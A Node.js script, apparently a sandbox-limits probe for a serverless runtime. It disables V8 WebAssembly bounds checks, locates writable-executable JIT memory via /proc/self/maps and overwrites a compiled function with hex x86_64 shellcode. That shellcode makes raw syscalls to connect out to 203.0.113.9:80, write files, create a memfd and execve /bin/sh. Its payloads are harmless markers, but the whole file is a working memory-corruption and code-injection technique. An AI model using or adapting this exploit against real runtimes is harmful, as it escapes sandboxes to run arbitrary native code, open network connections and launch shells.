'use strict';
// Reaches 203.0.113.9:80 by JavaScript alone, on x86_64: without its bounds checks, WebAssembly writes machine code over its own.
// `limits`: after the first request for an event it writes to files, and starts a program in its own place, instead.
const fs = require('node:fs');
const v8 = require('node:v8');

const is64 = process.versions.v8.split('.')[0] >= 13; // of memory64: on by default, and guarded by traps
for (const flag of ['--no-wasm-bounds-checks', is64 ? '--no-wasm-memory64-trap-handling' : '--experimental-wasm-memory64'])
  v8.setFlagsFromString(flag);

const MARK = 0x1122334455667788n, PAGES = 7n;
const leb = (value) => {
  const bytes = [];
  for (let rest = value, done = false; !done; ) {
    const low = Number(rest & 0x7fn);
    rest >>= 7n;
    done = rest === 0n && !(low & 0x40);
    bytes.push(done ? low : low | 0x80);
  }
  return bytes;
};
const section = (id, ...bytes) => [id, bytes.length, ...bytes];
const body = (...code) => [code.length + 2, 0, ...code, 0x0b];
const text = (name) => [name.length, ...Buffer.from(name)];
const I64 = 0x7e;
const types = section(1, 2, 0x60, 1, I64, 1, I64, 0x60, 2, I64, I64, 0);
const functions = section(3, 3, 0, 1, 0);
const memory64 = section(5, 1, 4, Number(PAGES));
const names = section(7, 4, ...text('m'), 2, 0, ...text('read'), 0, 0, ...text('write'), 0, 1, ...text('mark'), 0, 2);
const load = body(0x20, 0, 0x29, 3, 0), store = body(0x20, 0, 0x20, 1, 0x37, 3, 0), constant = body(0x42, ...leb(MARK));
const module_ = new Uint8Array([
  ...[0, 0x61, 0x73, 0x6d, 1, 0, 0, 0, ...types, ...functions, ...memory64, ...names],
  ...section(10, 3, ...load, ...store, ...constant),
]);
const { m, read, write, mark } = new WebAssembly.Instance(new WebAssembly.Module(module_)).exports;
read(0n), write(8n, 1n), mark(0n); // compiled by the first call

const maps = fs.readFileSync('/proc/self/maps', 'utf8').split('\n').map((line) => {
  const [, from, to, rights] = /^(\w+)-(\w+) (\S+)/.exec(line) ?? [0, '0', '0', ''];
  return { from: BigInt(`0x${from}`), to: BigInt(`0x${to}`), rights };
});
const own = maps.find(({ from, to, rights }) => rights.startsWith('rw-') && to - from === PAGES << 16n).from;
const peek = (at) => BigInt.asUintN(64, read(BigInt.asIntN(64, at - own)));
let at = 0n;
for (const { from, to } of maps.filter(({ rights }) => rights.startsWith('rwx')))
  for (let p = from; p < to - 16n && !at; p++) if (peek(p) === MARK) at = p - 2n;

// rbx = the table; rdi, rsi and rdx from it; the call's number into rax; syscall; leave the function's frame
const code = Buffer.from('4889c3488b7b08488b7310488b5318488b030f054889ec5dc390909090909090', 'hex');
for (let i = 0; i < code.length; i += 8) write(BigInt.asIntN(64, at - own) + BigInt(i), code.readBigInt64LE(i));
const bytes = Buffer.from(m.buffer);
const call = (...values) => {
  values.forEach((value, i) => bytes.writeBigInt64LE(BigInt(value), 256 + 8 * i));
  return mark(own + 256n);
};
bytes.set([2, 0, 0, 80, 203, 0, 113, 9], 96);
bytes.set(Buffer.from('arrived'), 128);
if (process.argv[2] === 'limits') {
  const put = (words, to) => (bytes.set(Buffer.from(`${words}\0`), to), own + BigInt(to));
  fs.writeSync(1, 'GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\n\r\n');
  const memory = call(319, put('memory', 512), 0, 0), there = call(2, put('/tmp/there', 528), 2, 0);
  const results = [call(77, memory, 4096, 0), ...[memory, there].map((file) => call(1, file, own + 128n, 7))];
  console.log(memory > 2n && there > 2n, ...results.map(Number));
  const started = [put('/bin/sh', 544), put('-c', 560), put('exit 42', 576), 0n];
  started.forEach((pointer, i) => bytes.writeBigInt64LE(pointer, 640 + 8 * i));
  call(59, started[0], own + 640n, 0);
}
const socket = call(41, 2, 1, 0);
call(42, socket, own + 96n, 16);
console.log(call(1, socket, own + 128n, 7));
